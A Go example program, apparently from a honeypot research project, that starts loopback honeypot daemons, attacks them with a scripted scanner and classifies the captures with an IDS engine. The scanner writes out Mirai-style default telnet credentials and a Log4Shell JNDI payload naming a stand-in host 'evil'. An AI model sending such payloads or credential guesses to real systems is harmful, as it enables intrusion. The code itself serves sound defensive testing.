@@ -1,0 +1,145 @@
+// Live honeypot: start real TCP honeypot daemons on loopback ports, run
+// a scripted scanner against them (Telnet login attempts, an SSH
+// banner, an HTTP exploit), and classify what was captured with the
+// IDS engine and the protocol fingerprinter — the full §3.2
+// malicious-traffic pipeline over actual sockets.
+package main
+
+import (
+	"bufio"
+	"context"
+	"fmt"
+	"log"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"cloudwatch"
+	"cloudwatch/internal/fingerprint"
+	"cloudwatch/internal/ids"
+	"cloudwatch/internal/netsim"
+)
+
+func main() {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+
+	var mu sync.Mutex
+	var records []netsim.Record
+	onRecord := func(r netsim.Record) {
+		mu.Lock()
+		defer mu.Unlock()
+		records = append(records, r)
+	}
+
+	telnetAddr := startDaemon(ctx, cloudwatch.HoneypotConfig{
+		Vantage: "live:telnet", Mode: cloudwatch.ModeTelnet, OnRecord: onRecord,
+	})
+	sshAddr := startDaemon(ctx, cloudwatch.HoneypotConfig{
+		Vantage: "live:ssh", Mode: cloudwatch.ModeSSH, OnRecord: onRecord,
+	})
+	httpAddr := startDaemon(ctx, cloudwatch.HoneypotConfig{
+		Vantage: "live:http", Mode: cloudwatch.ModeFirstPayload, OnRecord: onRecord,
+	})
+
+	// --- scripted scanner ---------------------------------------------------
+	// 1. Mirai-style telnet bruteforce.
+	conn := dial(telnetAddr)
+	br := bufio.NewReader(conn)
+	expect(br, "login: ")
+	conn.Write([]byte("root\r\n"))
+	expect(br, "Password: ")
+	conn.Write([]byte("xc3511\r\n"))
+	expect(br, "login: ")
+	conn.Write([]byte("admin\r\n"))
+	expect(br, "Password: ")
+	conn.Write([]byte("admin\r\n"))
+	conn.Close()
+
+	// 2. SSH banner grab.
+	conn = dial(sshAddr)
+	banner, _ := bufio.NewReader(conn).ReadString('\n')
+	fmt.Printf("honeypot SSH banner: %s", banner)
+	conn.Write([]byte("SSH-2.0-masscan_scanner\r\n"))
+	conn.Close()
+
+	// 3. Log4Shell exploit over HTTP.
+	conn = dial(httpAddr)
+	conn.Write([]byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\nHost: victim\r\n\r\n"))
+	conn.Close()
+
+	// 4. An unexpected protocol on the HTTP port (§6).
+	conn = dial(httpAddr)
+	conn.Write(fingerprint.Probe(fingerprint.TLS))
+	conn.Close()
+
+	waitFor(&mu, &records, 4)
+
+	// --- analysis -------------------------------------------------------------
+	engine := ids.DefaultEngine()
+	fmt.Println("\ncaptured records:")
+	mu.Lock()
+	defer mu.Unlock()
+	for _, rec := range records {
+		var verdict []string
+		if len(rec.Creds) > 0 {
+			verdict = append(verdict, fmt.Sprintf("login attempts=%d (malicious: bypasses authentication)", len(rec.Creds)))
+		}
+		if len(rec.Payload) > 0 {
+			proto := fingerprint.Identify(rec.Payload)
+			verdict = append(verdict, "protocol="+proto.String())
+			for _, alert := range engine.Match("tcp", 80, rec.Payload) {
+				verdict = append(verdict, "alert="+alert.Msg)
+			}
+		}
+		if len(verdict) == 0 {
+			verdict = append(verdict, "no payload (connection only)")
+		}
+		fmt.Printf("  %-12s %s\n", rec.Vantage, strings.Join(verdict, "; "))
+	}
+}
+
+func startDaemon(ctx context.Context, cfg cloudwatch.HoneypotConfig) string {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		log.Fatal(err)
+	}
+	d := cloudwatch.NewHoneypot(cfg)
+	go d.Serve(ctx, ln)
+	return ln.Addr().String()
+}
+
+func dial(addr string) net.Conn {
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		log.Fatal(err)
+	}
+	conn.SetDeadline(time.Now().Add(5 * time.Second))
+	return conn
+}
+
+func expect(br *bufio.Reader, marker string) {
+	var got []byte
+	for !strings.HasSuffix(string(got), marker) {
+		b, err := br.ReadByte()
+		if err != nil {
+			log.Fatalf("waiting for %q: %v (got %q)", marker, err, got)
+		}
+		got = append(got, b)
+	}
+}
+
+func waitFor(mu *sync.Mutex, records *[]netsim.Record, n int) {
+	deadline := time.Now().Add(5 * time.Second)
+	for time.Now().Before(deadline) {
+		mu.Lock()
+		if len(*records) >= n {
+			mu.Unlock()
+			return
+		}
+		mu.Unlock()
+		time.Sleep(20 * time.Millisecond)
+	}
+	log.Fatalf("timed out waiting for %d records", n)
+}
